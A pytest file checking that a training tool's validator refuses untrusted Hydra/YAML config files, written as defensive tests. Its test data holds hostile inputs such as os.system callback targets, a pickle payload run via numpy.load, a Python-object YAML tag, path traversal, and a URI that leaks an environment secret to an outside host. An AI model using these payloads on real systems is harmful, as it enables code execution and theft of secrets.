"""What a folder ``input/config``, which may be somebody else's, can do: set values of the config, and nothing else."""

import os
import pickle
import shutil
from pathlib import Path

import pytest

from support.entry import Train
from trialmaker.config import user_files
from trialmaker.errors import UserError
from trialmaker.platform import paths

GLOBAL = "# @package _global_\n"
SWEEP = "defaults:\n  - override /hydra/sweeper: optuna\nhydra:\n  mode: MULTIRUN\n  sweeper:\n"
NSGA, CROSSOVER = (f"_target_: optuna.samplers.{name}" for name in ("NSGAIISampler", "nsgaii.UniformCrossover"))
PATIENT, MEDIAN = (f"_target_: optuna.pruners.{name}Pruner" for name in ("Patient", "Median"))


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The folder of config files of a job that is about to begin."""
    monkeypatch.setenv("AI_ROOT", str(tmp_path))
    folder = tmp_path / "input" / "config"
    folder.mkdir(parents=True)
    return folder


def put(folder: Path, name: str, text: str) -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text.encode())
    return path


def refusal(folder: Path) -> str:
    with pytest.raises(UserError) as raised:
        user_files.folders()
    assert all(mistake.startswith(str(folder)) for mistake in raised.value.mistakes)
    return "\n".join(raised.value.mistakes)


# ---- what honest files hold


def test_the_projects_own_files_would_be_taken_from_anybody(folder: Path) -> None:
    """But for the debug files, whose names are taken, each under a name of its own, as people copy them."""
    for path in [*paths.CONF.glob("[!h]*/*.yaml"), *paths.SWEEPS.glob("*.yaml")]:
        text = path.read_text().partition("mirrors:")[0]
        put(folder, f"{path.parent.name}/copy_of_{path.name}", text)
    assert user_files.folders() == [folder]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("model/mine.yaml", "name: mlp\nhidden_units: [8]\n"),
        ("model/mine.yaml", "defaults:\n  - cnn\n  - _self_\nfilters: [8, 16]\n"),
        ("model/mine.yaml", "# @package model\nname: mlp\n"),
        ("experiment/mine.yaml", GLOBAL + "defaults:\n  - override /model: cnn\n  - mnist_cnn\nnote: 'a: b'\n"),
        ("experiment/mine.yaml", GLOBAL + "defaults:\n  - override /model: mine_${data}\n"),
        ("experiment/mine.yaml", GLOBAL + "training: &t {epochs: 3}\nmodel: {dropout_rate: 0.1}\n"),
        ("experiment/mine.yaml", GLOBAL + "tags: {owner: anna, 5: five, team.part: a}\nname: ${model.name}_${seed}\n"),
        ("experiment/mine.yaml", GLOBAL + "data: {directory: '${ai_root:}/input/data/pets'}\n"),
        ("experiment/mine.yaml", GLOBAL + "data: {directory: '${input:pets}/one', download: true}\n"),
        ("experiment/mine.yaml", GLOBAL + "init_model: ${output}/model\n"),
        ("experiment/mine.yaml", GLOBAL + "init_model: null\n"),
        ("experiment/mine.yaml", GLOBAL),
        ("model/mine.yaml", ""),
        ("sweeps/mine.yaml", GLOBAL + SWEEP + "    params: {seed: 'range(0,3)', model: 'choice(mlp,cnn)'}\n"),
        ("sweeps/mine.yaml", GLOBAL + SWEEP + "    storage: ${output}/studies/mine_${data.name}.log\n"),
        ("sweeps/mine.yaml", GLOBAL + SWEEP + "    study_name: a_${data.name}\n    direction: [minimize, maximize]\n"),
        ("sweeps/mine.yaml", GLOBAL + SWEEP + "    enqueue: [default, {seed: 3, model.hidden_units: '[8,8]'}]\n"),
        ("sweeps/mine.yaml", GLOBAL + SWEEP + f"    sampler: {{{NSGA}, crossover: {{{CROSSOVER}}}}}\n"),
        ("sweeps/mine.yaml", GLOBAL + SWEEP + f"    pruner: {{{PATIENT}, wrapped_pruner: {{{MEDIAN}}}}}\n"),
        ("README.md", "hydra: mine"),
    ],
)  # fmt: skip
def test_what_sets_values_is_taken(name: str, text: str, folder: Path) -> None:
    put(folder, name, text)
    assert user_files.folders() == [folder]


def test_what_is_taken_composes_with_what_is_typed(train: Train, folder: Path) -> None:
    put(folder, "model/mine.yaml", "defaults:\n  - cnn\n  - _self_\nfilters: [8, 16]\n")
    text = "defaults: [override /model: mine]\nname: ${model.name}_${seed}\ninit_model: ${output}/model\n"
    put(folder, "experiment/mine.yaml", f"{GLOBAL}{text}tags: {{owner: anna}}\n")
    done = train("--experiment", "mine", "--note", "${oc.env:HOME}", "seed=7", "--cfg", "job", "--resolve")
    assert done.code == 0, done.err
    for line in ("name: cnn_7", f"init_model: {done.output}/model", "owner: anna", "note: ${oc.env:HOME}"):
        assert line in done.out


# ---- what is refused, with the key


@pytest.mark.parametrize(
    ("text", "key"),
    [
        # Hydra's own
        ("hydra: {callbacks: {x: {_target_: numpy.load, allow_pickle: true}}}", "hydra.callbacks.x._target_"),
        ("hydra: {job: {env_set: {PYTHONPATH: /evil}}}", "hydra.job.env_set.PYTHONPATH"),
        ("hydra: {job: {chdir: true}}", "hydra.job.chdir"),
        ("hydra: {launcher: {_target_: os.system}}", "hydra.launcher._target_"),
        ("hydra: {run: {dir: /evil}}", "hydra.run.dir"),
        ("hydra: {sweep: {dir: /evil}}", "hydra.sweep.dir"),
        ("hydra: {sweep: {dir: '${output}/logs/../../evil'}}", "hydra.sweep.dir"),
        ("hydra: {sweep: {dir: '${output}/logs/${note}'}}", "hydra.sweep.dir"),
        ("hydra: {sweep: {subdir: ../evil}}", "hydra.sweep.subdir"),
        ("hydra: {searchpath: ['file:///evil']}", "hydra.searchpath"),
        ("hydra: {job_logging: {root: {handlers: [evil]}}}", "hydra.job_logging.root.handlers"),
        ("hydra: {hydra_logging: {version: 1}}", "hydra.hydra_logging.version"),
        ("hydra: {output_subdir: ../evil}", "hydra.output_subdir"),
        ("hydra: {callbacks: null}", "hydra.callbacks"),
        ("hydra: {callbacks: {}}", "hydra.callbacks"),
        ("hydra: ${model}", "hydra"),
        ("hydra.callbacks: {x: 1}", "hydra.callbacks.x"),
        ("hydra: {sweeper: {_target_: os.system}}", "hydra.sweeper._target_"),
        ("hydra: {sweeper: {sampler: {_target_: os.system}}}", "hydra.sweeper.sampler._target_"),
        ("hydra: {sweeper: {sampler: {_target_: a.b, _args_: [1]}}}", "hydra.sweeper.sampler._args_"),
        ("hydra: {sweeper: {sampler: {gamma: {_target_: os.system}}}}", "hydra.sweeper.sampler.gamma._target_"),
        ("hydra: {sweeper: {sampler: {gamma: {_partial_: true}}}}", "hydra.sweeper.sampler.gamma._partial_"),
        ("hydra: {sweeper: {sampler: {gamma: [{_target_: os.system}]}}}", "hydra.sweeper.sampler.gamma"),
        ("hydra: {sweeper: {sampler: {gamma: [{a: [{_target_: os.system}]}]}}}", "hydra.sweeper.sampler.gamma"),
        ("hydra: {sweeper: {pruner: {_target_: optuna.storages.RDBStorage, url: x}}}", "hydra.sweeper.pruner._target_"),
        ("hydra: {sweeper: {n_trials: {_target_: os.system}}}", "hydra.sweeper.n_trials._target_"),
        ("hydra: {sweeper: {custom_search_space: os.system}}", "hydra.sweeper.custom_search_space"),
        ("hydra: {sweeper: {storage: 'postgresql://evil/db'}}", "hydra.sweeper.storage"),
        ("hydra: {sweeper: {storage: '${output}/studies/../../evil'}}", "hydra.sweeper.storage"),
        ("hydra: {sweeper: {storage: '${output}/studies/${note}'}}", "hydra.sweeper.storage"),
        ("hydra: {sweeper: {n_jobs: 100000}}", "hydra.sweeper.n_jobs"),
        ("hydra: {sweeper: {trial: {storage: 'grpc://evil:1'}}}", "hydra.sweeper.trial.storage"),
        ("tags: {_target_: os.system}\nhydra: {sweeper: {sampler: '${tags}'}}", "tags._target_"),
        ("tags: {a: [{_target_: os.system}]}\nhydra: {sweeper: {sampler: '${tags}'}}", "tags.a"),
        # the search space
        ("hydra: {sweeper: {params: {hydra.callbacks.x: 'choice({_target_: os.system},1)'}}}", "hydra.callbacks.x"),
        ("hydra: {sweeper: {params: {tracking.uri: 'choice(http://a,http://b)'}}}", "tracking.uri"),
        ("hydra: {sweeper: {params: {'tracking.uri=x,y': 1}}}", "tracking.uri"),
        ("hydra: {sweeper: {params: {name: 'choice(a,${oc.env:HOME})'}}}", "name"),
        ("note: $\nhydra: {sweeper: {params: {name: 'choice(a,''${note}{oc.env:HOME}'')'}}}", "name"),
        ("hydra: {sweeper: {params: {model: {_target_: os.system}}}}", "model"),
        ("hydra: {sweeper: {params: {model@hydra.callbacks: cnn}}}", "model@hydra.callbacks"),
        ("hydra: {sweeper: {params: {hydra/launcher: 'choice(a,b)'}}}", "hydra/launcher"),
        ("hydra: {sweeper: {params: {output: /evil}}}", "output"),
        ("hydra: {sweeper: {params: {data.directory: /evil}}}", "data.directory"),
        ("hydra: {sweeper: {params: '${tags}'}}", "hydra.sweeper.params"),
        ("hydra: {sweeper: {enqueue: [{output: /evil}]}}", "output"),
        ("hydra: {sweeper: {enqueue: [{name: '${oc.env:HOME}'}]}}", "name"),
        # what only a person chooses
        ("tracking: {uri: 'http://elsewhere/${oc.env:HOME}'}", "tracking.uri"),
        ("tracking: {uri: 'http://elsewhere/'}", "tracking.uri"),
        ("output: /evil", "output"),
        ("resume: other", "resume"),
        ("instances: ignore", "instances"),
        ("training: {instance_index: 0}", "training.instance_index"),
        ("data: {mirrors: ['http://elsewhere/']}", "data.mirrors"),
        ("data: {directory: /home}", "data.directory"),
        ("data: {directory: '${ai_root:}/input/../../home'}", "data.directory"),
        ("data: {directory: '${ai_root:}/input/data/${note}'}", "data.directory"),
        ("data: {directory: '${ai_root:}'}", "data.directory"),
        ("init_model: /home/me/model.keras", "init_model"),
        ("init_model: '${output}/../../x'", "init_model"),
        ("init_model: '${note}'", "init_model"),
        ("init_model: [a]", "init_model"),
        ("model: {_target_: os.system}", "model._target_"),
        ("model: {name: ../evil}", "model.name"),
        ("colour: red", "colour"),
        # interpolations
        ("note: ${oc.env:HOME}", "note"),
        ("note: ${environment:HOME}", "note"),
        ("note: ${oc.decode:'x'}", "note"),
        ("note: ${oc.create:x}", "note"),
        ("note: ${hydra:runtime.cwd}", "note"),
        ("note: ${hydra.runtime.cwd}", "note"),
        ("note: ${oc.${name}:HOME}", "note"),
        ("note: ${${name}}", "note"),
        ("note: '\\${oc.env:HOME}'", "note"),
        ("note: '$${seed}{oc.env:HOME}'", "note"),
        ("note: ${tracking.uri}", "note"),
        ("note: ${tracking}", "note"),
        ("note: ${tags}", "note"),
        ("note: '${[tracking][uri]}'", "note"),
        ("note: ${input:${oc.env:HOME}}", "note"),
        ("note: '${oc.env:\n  HOME}'", "note"),
        ("tags: {a: '${oc.env:HOME}'}", "tags.a"),
        ("model: {hidden_units: ['${oc.env:N}']}", "model.hidden_units"),
        ("hydra: {sweeper: {study_name: '${oc.env:HOME}'}}", "hydra.sweeper.study_name"),
        # defaults lists
        ("defaults: [override /hydra/launcher: x]", "defaults"),
        ("defaults: [override /hydra/job_logging: x]", "defaults"),
        ("defaults: [optional /hydra/callbacks: x]", "defaults"),
        ("defaults: [/hydra/callbacks: x]", "defaults"),
        ("defaults: [/hydra/callbacks/x]", "defaults"),
        ("defaults: [/model@hydra.callbacks: cnn]", "defaults"),
        ("defaults: [/model@_global_.hydra: cnn]", "defaults"),
        ("defaults: [override /model: ../../evil]", "defaults"),
        ("defaults: [override /model: '${oc.env:HOME}']", "defaults"),
        ("defaults: [override /model: [cnn, ../x]]", "defaults"),
        ("defaults: [{override /model: cnn, /hydra/callbacks: x}]", "defaults"),
        ("defaults: ['${oc.env:HOME}']", "defaults"),
        ("defaults: {/hydra/callbacks: x}", "defaults"),
    ],
)  # fmt: skip
def test_what_does_more_is_refused_with_the_key_and_the_file(text: str, key: str, folder: Path) -> None:
    path = put(folder, "experiment/mine.yaml", f"{GLOBAL}{text}\n")
    assert f"{path}: " in refusal(folder) and key in refusal(folder)


@pytest.mark.parametrize(
    ("name", "text", "law"),
    [
        ("hydra/sweeper/optuna.yaml", "_target_: os.system\n", "is of a group of Hydra's"),
        ("hydra/sweeper/sampler/tpe.yaml", "seed: 1\n", "is of a group of Hydra's"),
        ("hydra/callbacks/x.yaml", "a: 1\n", "is of a group of Hydra's"),
        ("config.yaml", "seed: 1\n", "belongs in a folder"),
        ("model/mlp.yaml", "seed: 1\n", "TrialMaker has a config file of that name"),
        ("model/mine.yaml", "# @package _global_.hydra\ncallbacks: {}\n", "@package _global_.hydra"),
        ("model/mine.yaml", "# @package hydra.callbacks\nx: {_target_: a.b}\n", "@package hydra.callbacks"),
        ("model/mine.yaml", "# @package model.x\nx: 1\n", "@package model.x"),
        ("model/mine.yaml", "# @package a b\nx: 1\n", "Too many components"),
        ("model/mine.yaml", "# @package\nx: 1\n", "Expected header format"),
        ("model/mine.yaml", "#\n# @package _global_\nhydra: {callbacks: {}}\n", "model.hydra.callbacks"),
        ("model/mine.yaml", "\n" * 600 + "# @package _global_\nhydra: {mode: RUN}\n", "model.hydra.mode"),
        ("experiment/.yaml", "seed: 1\n", "its first line must be"),
        ("model/mine.yaml", "\r\n" * 300 + "# @package hydra.run\r\nname: mlp\r\n", "@package hydra.run"),
        ("tags/mine.yaml", "PYTHONPATH: /evil\n", "its first line must be"),
        ("own/mine.yaml", "callbacks: {}\n", "its first line must be"),
        ("model/mine.yaml", "!!python/object/apply:os.system [id]\n", "must have no tag"),
        ("model/mine.yaml", "a: !!set {a, b}\n", "must have no tag"),
        ("model/mine.yaml", "a: !evil b\n", "must have no tag"),
        ("model/mine.yaml", "a: 1\na: 2\n", "duplicate key"),
        ("model/mine.yaml", "a: 1\n---\nb: 2\n", "cannot be read as YAML"),
        ("model/mine.yaml", "? [a, b]\n: 1\n", "cannot be read as YAML"),
        ("model/mine.yaml", f"a: {'9' * 5000}\n", "cannot be read as YAML"),
        ("model/mine.yaml", "a: " + "[" * 30_000, "levels"),
        ("model/mine.yaml", "a: " + "{a: " * 9_000, "levels"),
        ("model/mine.yaml", "a: &a [*a]\n", "must stand for what is before it"),
        ("model/mine.yaml", "a: [" + "1," * 20_000 + "]\n", "at most 10000 values"),
        ("model/mine.yaml", "# " + "x" * 70_000, "at most 65536 bytes"),
        ("model/mine.yaml", "\x00", "cannot be read as YAML"),
        ("model/mine.yaml", "- a\n", "expected names and values"),
    ],
)  # fmt: skip
def test_a_file_that_is_no_small_plain_yaml_of_a_group_is_refused(name: str, text: str, law: str, folder: Path) -> None:
    put(folder, name, text)
    assert law in refusal(folder)


def test_a_billion_laughs_are_refused_before_they_are_made(folder: Path) -> None:
    lines = ["a0: &a0 [x, x]"] + [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 10)]
    put(folder, "model/mine.yaml", "\n".join(lines))
    assert "at most 10000 values" in refusal(folder)


def test_interpolations_of_interpolations_do_not_grow(folder: Path) -> None:
    tags = ", ".join(f"a{n + 1}: '{f'${{tags.a{n}}}' * 10}'" for n in range(9))
    put(folder, "experiment/one.yaml", f"{GLOBAL}tags: {{a0: {'x' * 100}, {tags}}}\n")
    assert "${tags.a0}" not in refusal(folder) and "tags.a2: ${tags.a1} is made of other fields itself" in refusal(
        folder
    )
    put(folder, "experiment/one.yaml", GLOBAL + "model: {filters: ['${model.dense_units}', '${model.dense_units}']}\n")
    assert user_files.folders() == [folder]
    put(folder, "experiment/two.yaml", GLOBAL + "model: {dense_units: ['${model.filters}', '${model.filters}']}\n")
    assert "model.filters: ${model.dense_units} is made of other fields itself" in refusal(folder)
    put(folder, "experiment/two.yaml", f"{GLOBAL}note: '{'${seed}' * 21}'\n")
    assert "note: is made of too many fields" in refusal(folder)


def test_no_link_leads_out_of_the_folder_and_nothing_is_waited_for(folder: Path, tmp_path: Path) -> None:
    elsewhere = put(tmp_path, "elsewhere/experiment/mine.yaml", "output: /evil\n")
    (folder / "experiment").symlink_to(elsewhere.parent)
    assert "is a link to a folder" in refusal(folder)
    (folder / "experiment").unlink()
    (folder / "experiment").mkdir()
    (folder / "experiment" / "mine.yaml").symlink_to(elsewhere)
    assert f"or out of {folder}" in refusal(folder)
    (folder / "experiment" / "mine.yaml").unlink()
    os.mkfifo(folder / "experiment" / "mine.yaml")
    assert "is no regular file" in refusal(folder)
    (folder / "experiment" / "mine.yaml").unlink()
    (folder / "experiment" / "mine.yaml").mkdir()
    assert "cannot be read" in refusal(folder)


def test_a_data_folder_that_is_a_link_out_of_the_inputs_is_refused(folder: Path, tmp_path: Path) -> None:
    (tmp_path / "home").mkdir()
    (folder / "pictures").symlink_to("../../home")
    assert "is a link to a folder" in refusal(folder)
    (folder / "pictures").unlink()
    pets = tmp_path / "input" / "pets"
    pets.mkdir()
    (pets / "more").symlink_to("../../home")
    put(folder, "experiment/mine.yaml", GLOBAL + "data: {directory: '${ai_root:}/input/pets/more'}\n")
    assert "data.directory: must lie below" in refusal(folder)
    shutil.rmtree(pets)
    pets.symlink_to("../home")  # the person's own link
    (tmp_path / "home" / "more").mkdir()
    assert user_files.folders() == [folder]


def test_a_folder_of_too_much_is_refused_at_once(folder: Path) -> None:
    for number in range(20):
        put(folder, f"model/m{number}.yaml", "# " + "x" * 60_000)
    assert "bytes in all" in refusal(folder)


# ---- the attacks from the command line, in which nothing is run and nothing sent


def test_a_received_callback_loads_no_pickle(train: Train, folder: Path, tmp_path: Path) -> None:
    class Attack:
        def __reduce__(self) -> tuple[object, ...]:
            return os.mkdir, (str(tmp_path / "attacked"),)

    (folder / "data.pkl").write_bytes(pickle.dumps(Attack()))
    callback = f"{{_target_: numpy.load, allow_pickle: true, file: {folder}/data.pkl}}"
    path = put(folder, "experiment/mine.yaml", f"{GLOBAL}hydra:\n  callbacks:\n    x: {callback}\n")
    done = train("experiment=mine", "data=digits", "training.epochs=x")
    assert not (tmp_path / "attacked").exists()
    assert done.code == 2 and done.err.startswith(f"train.py: error: {path}: hydra.callbacks.x._target_: ")


def test_a_received_search_space_calls_nothing(train: Train, folder: Path, tmp_path: Path) -> None:
    path = put(folder, "sweeps/mine.yaml", f"{GLOBAL}{SWEEP}    custom_search_space: os.system\n")
    done = train("sweeps=mine", "data=digits", "hydra.sweeper.dry_run=true")
    assert done.code == 2 and done.err.startswith(f"train.py: error: {path}: hydra.sweeper.custom_search_space: ")
    moved = tmp_path / "own" / "sweeps"
    moved.parent.mkdir()
    path.parent.rename(moved)  # what a person points to is the person's own
    done = train("--config-dir", str(moved.parent), "sweeps=mine", "--cfg", "hydra")
    assert done.code == 0 and "custom_search_space: os.system" in done.out


def test_nothing_of_the_environment_reaches_a_received_address(
    train: Train, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SECRET", "s3cret")
    path = put(folder, "experiment/mine.yaml", GLOBAL + "tracking: {uri: 'http://elsewhere/${oc.env:SECRET}'}\n")
    done = train("experiment=mine", "--cfg", "job", "--resolve")
    assert done.code == 2 and done.err.startswith(f"train.py: error: {path}: tracking.uri: ")
    assert "s3cret" not in done.out + done.err
    path.unlink()
    typed = train("tracking.uri='http://elsewhere/${oc.env:SECRET}'", "--cfg", "job", "--resolve")
    assert "http://elsewhere/s3cret" in typed.out
